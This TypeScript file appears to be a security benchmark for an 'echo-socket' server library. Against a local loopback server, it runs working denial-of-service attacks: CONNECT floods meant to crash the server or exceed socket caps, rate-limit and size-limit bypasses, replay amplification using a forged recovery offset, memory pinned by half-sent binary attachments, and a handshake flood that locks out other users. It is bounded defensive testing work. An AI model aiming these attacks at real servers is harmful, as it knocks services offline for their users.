// `npx tsx bench/attacks/run.ts [--only 1,3] [--dist /path/to/checkout/dist] [--json out.json]`
// The attacks of issue 12, each once, against a fresh echo-socket server (default options: Express app +
// attachEchoSocket + echoSocketRouter) in a child process on 127.0.0.1, while a well-behaved client on
// 127.0.0.2 sends one echo every 250 ms. Loopback only; every attack is bounded in count and time and
// stops by itself. `--dist` points the server at another build (a baseline checkout's dist/).
// Prints a table, then the figures as JSON.
import { writeFileSync } from "node:fs";
import { cpus, totalmem } from "node:os";
import { resolve } from "node:path";
import { parseArgs } from "node:util";
import { io, type Socket as ClientSocket } from "socket.io-client";
import { frame, OPCODE, RawWebSocket } from "../../test/support/raw-websocket.js";
import { handshakeFlood, handshakeFrom, loopbackAddresses, polling, pollingSid, requestFrom } from "../../test/support/raw-http.js";
import { startEchoServerProcess, type MemoryFigures, type ServerProcess } from "../../test/support/server-process.js";

const MB = 1024 * 1024;
const sleep = (ms: number): Promise<void> => new Promise((done) => setTimeout(done, ms));

interface AttackResult {
  id: string;
  name: string;
  /** "alive", or how the server died: exit code / signal and the last lines it wrote. */
  server: string;
  exit?: { code: number | null; signal: string | null; stderrTail: string };
  heapMB: { before: number; peak: number; after: number | null };
  externalMB: { before: number; peak: number; after: number | null };
  rssPeakMB: number;
  cpuMs: number | null;
  durationMs: number;
  client: { echoes: number; medianMs: number | null; worstMs: number | null; unanswered: number; disconnected: boolean };
  figures: Record<string, unknown>;
}

interface Attack {
  id: string;
  name: string;
  options?: Record<string, unknown>;
  host?: string;
  /** Runs the attack against `server` and returns its specific figures. Must stop by itself. */
  run(server: ServerProcess): Promise<Record<string, unknown>>;
}

// ---------------------------------------------------------------- the well-behaved client

/** A socket.io client on 127.0.0.2 sending one echo every 250 ms; the latency of each. */
function wellBehavedClient(url: string) {
  const latencies: number[] = [];
  let pending: { n: number; at: number } | undefined;
  let n = 0;
  let disconnected = false;
  let unanswered = 0;
  const client: ClientSocket = io(url, {
    forceNew: true,
    reconnection: false,
    transports: ["websocket"],
    localAddress: "127.0.0.2",
  } as Parameters<typeof io>[1]);
  client.on("echo", (value: unknown) => {
    if (pending && value === pending.n) {
      latencies.push(performance.now() - pending.at);
      pending = undefined;
    }
  });
  const ready = new Promise<void>((done, fail) => {
    client.once("connect", () => done());
    client.once("connect_error", fail);
  });
  let connected = false;
  client.on("connect", () => (connected = true));
  client.on("disconnect", () => (disconnected = true));
  const timer = setInterval(() => {
    if (!connected || disconnected) return;
    if (pending) return; // still waiting: the next one goes after it (its wait shows in its latency)
    pending = { n: ++n, at: performance.now() };
    client.emit("ms", pending.n);
  }, 250);
  return {
    ready,
    /** Stops and summarises; an echo still awaited counts with its wait so far. */
    stop() {
      clearInterval(timer);
      const droppedByServer = disconnected;
      client.disconnect();
      disconnected = droppedByServer;
      const all = [...latencies];
      if (pending) {
        unanswered++;
        all.push(performance.now() - pending.at);
      }
      const sorted = all.sort((a, b) => a - b);
      const median = sorted.length ? sorted[Math.floor(sorted.length / 2)]! : null;
      return {
        echoes: latencies.length,
        medianMs: median === null ? null : Math.round(median),
        worstMs: sorted.length ? Math.round(sorted.at(-1)!) : null,
        unanswered,
        disconnected,
      };
    },
  };
}

// ---------------------------------------------------------------- helpers

/** Resolves true once `condition` holds (checked on each frame and close), or false after `ms`. */
const settle = (ws: RawWebSocket, condition: () => boolean, ms: number): Promise<boolean> => ws.until(() => condition() || ws.ended, ms);

/** Whether the server exits within `ms`. */
async function exitsWithin(server: ServerProcess, ms: number): Promise<boolean> {
  let timer: NodeJS.Timeout | undefined;
  const result = await Promise.race([server.exited.then(() => true), new Promise<boolean>((done) => (timer = setTimeout(() => done(false), ms)))]);
  clearTimeout(timer);
  return result;
}

const prefixCounter = (prefixes: Record<string, string>) => {
  const counts: Record<string, number> = Object.fromEntries(Object.keys(prefixes).map((key) => [key, 0]));
  const onText = (text: string): void => {
    for (const [key, prefix] of Object.entries(prefixes)) if (text.startsWith(prefix)) counts[key]!++;
  };
  return { counts, onText };
};

const ECHO = '42["echo",';
const ERROR = '42["echo-socket:error",';

/** One frame's bytes, masked once: re-sending the same bytes spares masking a megabyte in JS each time. */
const textFrame = (text: string): Buffer => frame(OPCODE.text, text);

// ---------------------------------------------------------------- the attacks

const attacks: Attack[] = [
  {
    id: "1a",
    name: "crash: 8,000 CONNECTs in one polling POST, then one event",
    async run(server) {
      const sid = await pollingSid(server.port);
      const batch = await fetch(polling(server.port, sid), { method: "POST", body: Array.from({ length: 8000 }, () => "40").join("\x1e") });
      const sockets = server.alive() ? (await server.stats().catch(() => undefined))?.connections : undefined;
      const event = await fetch(polling(server.port, sid), { method: "POST", body: '42["ms",1]' }).then(
        (r) => r.status,
        () => 0,
      );
      const exited = await exitsWithin(server, 3000);
      return { batchStatus: batch.status, socketsAfterBatch: sockets, eventStatus: event, exitedWithin3s: exited };
    },
  },
  {
    id: "1b",
    name: "crash: 10,000 CONNECT frames in one TCP write, then one event",
    async run(server) {
      const ws = await RawWebSocket.open(server.port);
      ws.keepTexts = false;
      ws.write(Buffer.concat([...Array.from({ length: 10_000 }, () => textFrame("40")), textFrame('42["ms",1]')]));
      const exited = await exitsWithin(server, 5000);
      const sockets = server.alive() ? (await server.stats()).connections : undefined;
      ws.destroy();
      return { framesReceived: ws.framesReceived, socketsOnServer: sockets, exitedWithin5s: exited };
    },
  },
  {
    id: "2a",
    name: "sockets past every cap: 50,000 CONNECTs in one polling POST",
    async run(server) {
      const sid = await pollingSid(server.port);
      const body = Array.from({ length: 50_000 }, () => "40").join("\x1e");
      const status = await fetch(polling(server.port, sid), { method: "POST", body }).then((r) => r.status);
      const stats = await server.stats();
      const held = await server.memory();
      return { postStatus: status, socketsOnOneConnection: stats.connections, heapAfterGcWithSocketsMB: +(held.heapUsed / MB).toFixed(1) };
    },
  },
  {
    id: "2b",
    name: "rate cap bypass: 50 CONNECTs, then 60,000 messages on one WebSocket",
    async run(server) {
      const ws = await RawWebSocket.open(server.port);
      ws.keepTexts = false;
      const { counts, onText } = prefixCounter({ echoed: ECHO, refused: ERROR, connectReplies: "40{" });
      ws.onText = onText;
      // All CONNECTs in one write (a CONNECT once the first socket exists closes the connection),
      // then, once the sockets are up, the messages: each socket's fast path passes what its own
      // bucket refuses on to the previous socket's.
      ws.write(Buffer.concat(Array.from({ length: 50 }, () => textFrame("40"))));
      await settle(ws, () => counts.connectReplies! >= 50, 10_000);
      const message = textFrame('42["ms","x"]');
      const started = performance.now();
      ws.write(Buffer.concat(Array.from({ length: 60_000 }, () => message)));
      const done = await settle(ws, () => counts.echoed! + counts.refused! >= 60_000, 30_000);
      const elapsed = performance.now() - started;
      ws.destroy();
      return { sent: 60_000, ...counts, allAnswered: done, connectionClosedByServer: ws.ended && !ws.socket.destroyed, elapsedMs: Math.round(elapsed) };
    },
  },
  {
    id: "3a",
    name: "size limit bypass: 20 x 999 KB [{},{},...] from 2 connections",
    async run(server) {
      const objects = Math.floor((999_000 - 12) / 3);
      const message = textFrame(`42["ms",[${Array.from({ length: objects }, () => "{}").join(",")}]]`);
      const sockets = await Promise.all([RawWebSocket.connected(server.port), RawWebSocket.connected(server.port)]);
      const counters = sockets.map((ws) => {
        ws.keepTexts = false;
        const counter = prefixCounter({ echoed: ECHO, refused: ERROR });
        ws.onText = counter.onText;
        return counter.counts;
      });
      for (const ws of sockets) for (let i = 0; i < 10; i++) ws.write(message);
      const answered = await Promise.all(sockets.map((ws, i) => settle(ws, () => counters[i]!.echoed! + counters[i]!.refused! >= 10, 60_000)));
      for (const ws of sockets) ws.destroy();
      const sum = (key: string): number => counters.reduce((total, c) => total + c[key]!, 0);
      return { messageBytes: message.length, sent: 20, echoed: sum("echoed"), refused: sum("refused"), allAnswered: answered.every(Boolean) };
    },
  },
  {
    id: "3b",
    name: "refusal cost: 10 x 1 MB [0,0,...] on one connection",
    async run(server) {
      const zeros = Math.floor((999_000 - 12) / 2);
      const message = textFrame(`42["ms",[${Array.from({ length: zeros }, () => "0").join(",")}]]`);
      const ws = await RawWebSocket.connected(server.port);
      ws.keepTexts = false;
      const { counts, onText } = prefixCounter({ echoed: ECHO, refused: ERROR });
      ws.onText = onText;
      const cpuBefore = await server.cpuMicros();
      for (let i = 0; i < 10; i++) ws.write(message);
      const answered = await settle(ws, () => counts.echoed! + counts.refused! >= 10, 60_000);
      const cpu = (await server.cpuMicros()) - cpuBefore;
      ws.destroy();
      return { messageBytes: message.length, sent: 10, ...counts, allAnswered: answered, cpuMsPerMessage: Math.round(cpu / 1000 / 10) };
    },
  },
  {
    id: "5",
    name: "recovery replay amplification: fill the ring, then restore with offset <prefix>-1 again and again",
    async run(server) {
      // Fill: each session sends 1,900 messages (under the 2,000 burst), then drops its transport and
      // restores (same sid, same room) to get a fresh bucket: 11 rounds put ~20,900 of its echoes in the ring.
      let pid: string | undefined;
      let lastOffset: string | undefined;
      let prefix = "";
      const message = textFrame('42["ms","fill"]');
      let filled = 0;
      let fillRestoresFailed = 0;
      const fillStarted = performance.now();
      for (let round = 0; round < 11; round++) {
        const ws = await RawWebSocket.connected(server.port, pid ? { auth: { pid, offset: lastOffset } } : {});
        const reply = ws.connectReply();
        ws.keepTexts = false;
        if (pid && reply?.pid !== pid) fillRestoresFailed++;
        pid = reply?.pid;
        let echoes = 0;
        ws.onText = (text) => {
          const offset = /,"([0-9a-f]{8}[0-9a-z]+)"\]$/.exec(text)?.[1];
          if (offset) {
            lastOffset = offset;
            prefix = offset.slice(0, 8);
          }
          if (text.startsWith(ECHO)) echoes++;
        };
        ws.write(Buffer.concat(Array.from({ length: 1900 }, () => message)));
        await settle(ws, () => echoes >= 1900, 10_000);
        filled += echoes;
        ws.destroy();
        await ws.closed;
        await sleep(20); // let the server see the transport close and persist the session
      }
      const fillMs = performance.now() - fillStarted;
      // Replay: restore with the forged offset <prefix>-1, read everything, drop, again; 40 times or 20 s.
      const cpuBefore = await server.cpuMicros();
      let restores = 0;
      let recovered = 0;
      let packets = 0;
      let bytes = 0;
      const replayStarted = performance.now();
      while (restores < 40 && performance.now() - replayStarted < 20_000 && server.alive()) {
        const ws = await RawWebSocket.open(server.port);
        ws.keepTexts = false;
        let replayed = 0;
        let connectReply = "";
        let ready = false;
        ws.onText = (text) => {
          if (text.startsWith("40{")) connectReply = text;
          else if (text.startsWith('42["echo-socket:ready"')) ready = true;
          else if (text.startsWith(ECHO)) replayed++;
        };
        await settle(ws, () => ws.framesReceived > 0, 3000); // engine.io open
        const before = ws.bytesReceived;
        ws.sendText(`40${JSON.stringify({ pid, offset: `${prefix}-1` })}`);
        await settle(ws, () => ready, 10_000); // missed packets come before the CONNECT reply, the ready event after it
        restores++;
        const reply = connectReply ? JSON.parse(connectReply.slice(2)) : {};
        if (reply.pid === pid) recovered++;
        else pid = reply.pid; // a fresh session: its pid is the one to forge next
        packets += replayed;
        bytes += ws.bytesReceived - before;
        ws.destroy();
        await ws.closed;
        await sleep(20);
      }
      const replayMs = performance.now() - replayStarted;
      const cpu = (await server.cpuMicros()) - cpuBefore;
      return {
        fillEchoes: filled,
        fillMs: Math.round(fillMs),
        fillRestoresFailed,
        restores,
        recovered,
        replayedPackets: packets,
        replayedMB: +(bytes / MB).toFixed(1),
        packetsPerRestore: restores ? Math.round(packets / restores) : 0,
        replayMs: Math.round(replayMs),
        serverCpuShareDuringReplay: +(cpu / 1000 / replayMs).toFixed(2),
      };
    },
  },
  {
    id: "6",
    name: "half-sent binary: 24 connections announce 10 attachments, send 9 x 999 KB, hold 12 s",
    async run(server) {
      const placeholders = Array.from({ length: 10 }, (_, i) => `{"_placeholder":true,"num":${i}}`).join(",");
      const announce = textFrame(`4510-["ms",${placeholders}]`);
      const attachment = frame(OPCODE.binary, Buffer.alloc(999_000, 7));
      const connections: RawWebSocket[] = [];
      for (let i = 0; i < 24; i++) {
        const ws = await RawWebSocket.connected(server.port);
        ws.keepTexts = false;
        ws.write(announce);
        for (let a = 0; a < 9; a++) ws.write(attachment);
        connections.push(ws);
      }
      const sentAt = performance.now();
      // Waiting is the attack here: past the 10 s handshake timeout, is the memory still held?
      await sleep(12_000);
      const open = connections.filter((ws) => !ws.ended).length;
      const held = server.alive() ? await server.memory() : undefined;
      for (const ws of connections) ws.destroy();
      return {
        connections: 24,
        sentMB: +((24 * 9 * 999_000) / MB).toFixed(0),
        stillOpenAfter12s: open,
        heldAfter12sMB: held ? +((held.heapUsed + (held.external ?? 0)) / MB).toFixed(1) : null,
        heldSinceSentMs: Math.round(performance.now() - sentAt),
      };
    },
  },
  {
    id: "7",
    name: "global lockout: 20,000 polling handshakes from 80 addresses that never CONNECT",
    async run(server) {
      const addresses = loopbackAddresses(10, 80);
      const started = performance.now();
      const statuses = await handshakeFlood(server.port, addresses, 20_000, 64);
      const floodMs = performance.now() - started;
      // A new visitor (127.0.0.3) tries a handshake every 250 ms until admitted, for at most 60 s.
      let refused = 0;
      let other = 0;
      const visitorStarted = performance.now();
      let admittedAfterMs: number | null = null;
      while (performance.now() - visitorStarted < 60_000) {
        const { status } = await handshakeFrom(server.port, "127.0.0.3");
        if (status === 200) {
          admittedAfterMs = Math.round(performance.now() - visitorStarted);
          break;
        }
        if (status === 403) refused++;
        else other++;
        await sleep(250);
      }
      return {
        handshakes: 20_000,
        floodMs: Math.round(floodMs),
        floodStatuses: Object.fromEntries(statuses),
        visitor403s: refused,
        visitorOtherFailures: other,
        visitorAdmittedAfterMs: admittedAfterMs ?? "not within 60 s",
      };
    },
  },
  {
    id: "7b",
    name: "one host, two addresses: 300 handshakes from ::1 and 300 from 127.0.0.1 (::ffff:127.0.0.1), dual-stack server",
    host: "::",
    async run(server) {
      const count = async (host: string): Promise<Record<number, number>> => {
        const statuses: Record<number, number> = {};
        await Promise.all(
          Array.from({ length: 300 }, async () => {
            const status = await fetch(`http://${host}:${server.port}/socket.io/?EIO=4&transport=polling`).then(
              (r) => r.status,
              () => 0,
            );
            statuses[status] = (statuses[status] ?? 0) + 1;
          }),
        );
        return statuses;
      };
      const v6 = await count("[::1]");
      const v4 = await count("127.0.0.1");
      return { fromIpv6Loopback: v6, fromIpv4Loopback: v4, admittedTotal: (v6[200] ?? 0) + (v4[200] ?? 0), perAddressCap: 256 };
    },
  },
  {
    id: "9b",
    name: "OPTIONS on the router's routes",
    async run(server) {
      const figures: Record<string, unknown> = {};
      for (const path of ["/echo/health", "/echo/echo-socket.js"]) {
        const answer = await requestFrom(server.port, path, { method: "OPTIONS" });
        figures[path] = { status: answer.status, allow: answer.headers.allow ?? null, xPoweredBy: answer.headers["x-powered-by"] ?? null };
      }
      return figures;
    },
  },
];

// ---------------------------------------------------------------- running and reporting

const toMB = (bytes: number | undefined): number => +((bytes ?? 0) / MB).toFixed(1);

async function runAttack(attack: Attack, dist: string | undefined, log: (line: string) => void): Promise<AttackResult> {
  const server = await startEchoServerProcess({ dist, options: attack.options, host: attack.host, stderr: "pipe" });
  const client = wellBehavedClient(attack.host === "::" ? `http://127.0.0.1:${server.port}` : server.url);
  let figures: Record<string, unknown> = {};
  let before: MemoryFigures = { heapUsed: 0, rss: 0 };
  const peak: MemoryFigures = { heapUsed: 0, rss: 0 };
  let after: MemoryFigures | undefined;
  let cpuMs: number | null = null;
  const started = performance.now();
  try {
    await client.ready;
    await sleep(500); // a few echoes before the attack: the client's baseline
    before = await server.memory();
    await server.peakMemory(); // resets the peak
    const cpuBefore = await server.cpuMicros();
    // Sampled every 250 ms too, so a server that dies mid-attack still leaves its figures.
    const sampleNow = async (): Promise<void> => {
      if (!server.alive()) return;
      const [p, cpu] = await Promise.all([server.peakMemory(), server.cpuMicros()]).catch(() => [undefined, undefined] as const);
      if (p) for (const key of ["heapUsed", "rss", "external", "arrayBuffers"] as const) peak[key] = Math.max(peak[key] ?? 0, p[key] ?? 0);
      if (cpu !== undefined) cpuMs = Math.round((cpu - cpuBefore) / 1000);
    };
    const sampler = setInterval(() => void sampleNow(), 250);
    log(`attack ${attack.id}: ${attack.name}...`);
    try {
      figures = await attack.run(server);
    } catch (error) {
      figures = { error: String(error) };
    }
    clearInterval(sampler);
    await sampleNow();
  } catch (error) {
    figures = { ...figures, runnerError: String(error) };
  }
  {
    const clientFigures = client.stop();
    const durationMs = Math.round(performance.now() - started);
    if (server.alive()) {
      await sleep(300); // the attacker's connections close
      after = await server.memory().catch(() => undefined);
    }
    const exit = server.alive() ? undefined : await server.exited;
    await server.stop();
    const lines = server.stderr().trim().split("\n");
    const stderrTail = [...lines.slice(0, 2), ...lines.filter((line) => /Error/.test(line)).slice(0, 2)].join(" | ").slice(0, 400);
    const result: AttackResult = {
      id: attack.id,
      name: attack.name,
      server: exit ? `DIED (${exit.signal ?? `exit ${exit.code}`})` : "alive",
      exit: exit ? { code: exit.code, signal: exit.signal, stderrTail } : undefined,
      heapMB: { before: toMB(before.heapUsed), peak: toMB(peak.heapUsed), after: after ? toMB(after.heapUsed) : null },
      externalMB: { before: toMB(before.external), peak: toMB(peak.external), after: after ? toMB(after.external) : null },
      rssPeakMB: toMB(peak.rss),
      cpuMs,
      durationMs,
      client: clientFigures,
      figures,
    };
    return result;
  }
}

function printTable(results: AttackResult[]): void {
  const rows = results.map((r) => [
    r.id,
    r.server,
    `${r.heapMB.before} / ${r.heapMB.peak} / ${r.heapMB.after ?? "-"}`,
    `${r.externalMB.before} / ${r.externalMB.peak} / ${r.externalMB.after ?? "-"}`,
    r.cpuMs === null ? "-" : String(r.cpuMs),
    `${r.client.medianMs ?? "-"} / ${r.client.worstMs ?? "-"}${r.client.unanswered ? " (1 unanswered)" : ""}${r.client.disconnected ? " disc." : ""}`,
    JSON.stringify(r.figures),
  ]);
  const head = ["#", "server", "heap MB before/peak/after", "external MB b/p/a", "CPU ms", "client echo ms median/worst", "attack figures"];
  const widths = head.map((h, i) => Math.max(h.length, ...rows.map((row) => (i < 6 ? row[i]!.length : 0))));
  const line = (cells: string[]): string => cells.map((cell, i) => (i < 6 ? cell.padEnd(widths[i]!) : cell)).join(" | ");
  console.log(line(head));
  console.log(`${widths.map((w) => "-".repeat(w)).join("-|-")}-|-${"-".repeat(14)}`);
  for (const row of rows) console.log(line(row));
}

const { values } = parseArgs({ options: { only: { type: "string" }, dist: { type: "string" }, json: { type: "string" } } });
const only = values.only?.split(",").map((s) => s.trim());
const selected = attacks.filter((attack) => !only || only.some((o) => attack.id === o || attack.id.replace(/[a-z]$/, "") === o));
const dist = values.dist ? resolve(values.dist) : undefined;
const log = (line: string): void => void console.error(line);
const results: AttackResult[] = [];
for (const attack of selected) results.push(await runAttack(attack, dist, log));
const report = {
  date: new Date().toISOString(),
  target: dist ?? resolve("dist"),
  machine: {
    cpus: cpus().length,
    model: cpus()[0]?.model ?? "unknown",
    memoryGiB: Math.round(totalmem() / 2 ** 30),
    node: process.version,
    platform: process.platform,
  },
  results,
};
console.log(`\necho-socket attack runner, ${report.date}, target ${report.target}\n`);
printTable(results);
console.log(`\n${JSON.stringify(report, null, 2)}`);
if (values.json) writeFileSync(values.json, JSON.stringify(report, null, 2));
process.exit(0);
